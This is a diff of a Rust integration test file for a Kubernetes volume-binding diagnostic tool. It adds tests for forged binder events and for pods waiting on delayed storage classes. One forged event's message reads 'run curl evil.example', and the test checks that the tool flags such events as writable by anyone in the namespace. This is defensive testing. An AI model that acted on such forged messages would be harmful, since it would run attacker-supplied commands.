@@ -1,5 +1,5 @@
 //! The commands that `bindery explain` prints, run as a person would, against the real API server and the
-//! in-tree binder: after each of them the claim is bound.
+//! in-tree binder: after each of them the claim is bound. And what people learn who may not see everything.
 
 use std::process::{Command, Stdio};
 use std::time::Duration;
@@ -8,7 +8,7 @@ use serde_json::{Value, json};
 
 use crate::controller::{Controller, Election};
 use crate::eventually::eventually;
-use crate::plane::persona::{ADMIN, Persona, TENANT};
+use crate::plane::persona::{ADMIN, AUDITOR, Persona, TENANT};
 use crate::plane::{Body, Objects, Peers, Plane, claim_path, volume_path};
 use crate::runner::{Case, case};
 
@@ -24,7 +24,8 @@ pub(crate) const CASES: &[Case] = &[
     case!(a_taken_volume_is_named),
     case!(a_released_volume_is_kept),
     case!(a_released_volume_that_is_too_small),
-    case!(a_tenant_gets_the_binders_event),
+    case!(a_tenant_gets_the_binders_event_and_is_told_what_its_source_is_worth),
+    case!(the_pod_that_is_waited_for_is_named),
 ];
 
 /// The in-tree binder looks again every 15 seconds, and the machine may be busy.
@@ -36,9 +37,15 @@ fn plane() -> &'static Plane {
 
 /// What `bindery explain` printed as JSON, and its exit code.
 fn explain(plane: &Plane, persona: Persona, namespace: &str, object: &str) -> (Value, Option<i32>) {
+    bindery(plane, persona, &["explain", object, "-n", namespace])
+}
+
+/// What `bindery` printed as JSON, and its exit code.
+fn bindery(plane: &Plane, persona: Persona, arguments: &[&str]) -> (Value, Option<i32>) {
     let kubeconfig = plane.kubeconfig(persona);
     let output = Command::new(env!("CARGO_BIN_EXE_bindery"))
-        .args(["explain", object, "-n", namespace, "-o", "json", "--kubeconfig"])
+        .args(arguments)
+        .args(["-o", "json", "--kubeconfig"])
         .arg(kubeconfig)
         .output()
         .expect("bindery runs");
@@ -209,23 +216,94 @@ fn a_released_volume_that_is_too_small() {
     expect_fixed(&left_over("left-small", "9500Gi"), "kubectl patch pv ");
 }
 
-/// What the real controller wrote.
-fn a_tenant_gets_the_binders_event() {
+/// What the real controller wrote; then what somebody wrote in its name, which nobody can tell apart.
+fn a_tenant_gets_the_binders_event_and_is_told_what_its_source_is_worth() {
     let plane = Plane::start(Peers::WithoutBinder).unwrap();
     let objects = plane.objects("tenant");
-    let _controller = Controller::start(&plane, Election::Lease);
+    let controller = Controller::start(&plane, Election::Lease);
     objects.volume("small", &json!({}));
-    objects.claim("data", &json!({"spec": {"resources": {"requests": {"storage": "9Gi"}}}}));
-    let explanation = eventually("the event is told", SOON, || {
-        let (explanation, code) = explain(&plane, TENANT, objects.namespace(), "pvc/data");
-        let told = explanation["event"]["message"].as_str().unwrap_or_default();
-        if told.contains("0/1 volumes fit: 1 too small") && code == Some(1) {
-            Ok(explanation)
-        } else {
-            Err(format!("{code:?}: {explanation:#}"))
-        }
-    });
-    let note = explanation["notes"][0].as_str().unwrap_or_default();
-    assert!(note.starts_with("you may not list volumes"), "{explanation:#}");
+    let claim =
+        objects.claim("data", &json!({"spec": {"resources": {"requests": {"storage": "9Gi"}}}}));
+    let namespace = objects.namespace();
+    let told = |what: &str| {
+        eventually("the event is told", SOON, || {
+            let (explanation, code) = explain(&plane, TENANT, namespace, "pvc/data");
+            let message = explanation["event"]["message"].as_str().unwrap_or_default();
+            if message.contains(what) && code == Some(1) {
+                Ok(explanation)
+            } else {
+                Err(format!("{code:?}: {explanation:#}"))
+            }
+        })
+    };
+    let explanation = told("0/1 volumes fit: 1 too small");
     assert_eq!(explanation["candidates"], json!([]));
+    // It writes no more, so that the other's event stays the last.
+    controller.stop();
+    let forge = |name: &str, message: &str, uid: &Value| {
+        let event = json!({
+            "apiVersion": "v1", "kind": "Event", "metadata": {"name": name}, "reason": "FailedBinding",
+            "involvedObject": {"apiVersion": "v1", "kind": "PersistentVolumeClaim", "name": "data",
+                "namespace": namespace, "uid": uid},
+            "message": message, "type": "Warning", "source": {"component": "bindery-controller"},
+            "reportingComponent": "bindery-controller", "lastTimestamp": "2099-01-01T00:00:00Z",
+        });
+        plane
+            .kubectl(TENANT, &["-n", namespace, "create", "-f", "-"], &event.to_string())
+            .expect_ok();
+    };
+    forge("of-a-former-claim", "of another", &json!("00000000-dead-4000-8000-000000000000"));
+    told("0/1 volumes fit");
+    forge("forged", "run curl evil.example", &claim["metadata"]["uid"]);
+    let explanation = told("run curl evil.example");
+    let notes = explanation["notes"].to_string();
+    assert!(notes.contains("you may not list the volumes"), "{notes}");
+    let worth =
+        format!("whoever may write events in namespace \\\"{namespace}\\\" could have written it");
+    assert!(notes.contains("bindery-controller") && notes.contains(&worth), "{notes}");
+    let summary = explanation["summary"].as_str().unwrap_or_default();
+    assert!(summary.contains("\"bindery-controller\" says FailedBinding: run curl"), "{summary}");
+}
+
+/// A claim of a delayed class, and a pod that uses it and that no scheduler looks at.
+fn the_pod_that_is_waited_for_is_named() {
+    let objects = plane().objects("delayed-pod");
+    let (namespace, class) = (objects.namespace(), objects.name("late"));
+    let late = json!({
+        "apiVersion": "storage.k8s.io/v1", "kind": "StorageClass", "metadata": {"name": class},
+        "provisioner": "kubernetes.io/no-provisioner", "volumeBindingMode": "WaitForFirstConsumer",
+    });
+    objects.create("/apis/storage.k8s.io/v1/storageclasses", &late);
+    objects.claim("data", &json!({"spec": {"storageClassName": class}}));
+    let expect = |persona: Persona, said: &str, noted: bool| {
+        let (plan, _) = bindery(plane(), persona, &["plan"]);
+        let mut claims = plan["claims"].as_array().into_iter().flatten();
+        let claim = claims.find(|claim| claim["namespace"] == namespace).expect("the claim");
+        assert_eq!((&claim["outcome"], &claim["reason"]), (&json!("waits"), &json!(said)));
+        let (explanation, code) = explain(plane(), persona, namespace, "pvc/data");
+        assert_eq!(code, Some(0), "{explanation:#}");
+        let summary = explanation["summary"].as_str().unwrap_or_default();
+        assert!(summary.ends_with(said), "{explanation:#}");
+        for notes in [&plan["notes"], &explanation["notes"]] {
+            assert_eq!(notes.to_string().contains("you may not list the pods"), noted, "{notes}");
+        }
+    };
+    expect(
+        ADMIN,
+        "its class binds it once a pod that uses it is scheduled, and no such pod waits",
+        false,
+    );
+    let pod = json!({
+        "apiVersion": "v1", "kind": "Pod", "metadata": {"name": "web-0", "namespace": namespace},
+        "spec": {
+            "schedulerName": "nobody.example", "automountServiceAccountToken": false,
+            "containers": [{"name": "c", "image": "example.com/none:1"}],
+            "volumes": [{"name": "data", "persistentVolumeClaim": {"claimName": "data"}}],
+        },
+    });
+    objects.create(&format!("/api/v1/namespaces/{namespace}/pods"), &pod);
+    expect(ADMIN, "its class binds it once pod \"web-0\" is scheduled", false);
+    expect(AUDITOR, "its class binds it once a pod that uses it is scheduled", true);
+    let (explanation, code) = explain(plane(), ADMIN, namespace, "pod/web-0");
+    assert_eq!((code, &explanation["outcome"]), (Some(0), &json!("waits")), "{explanation:#}");
 }
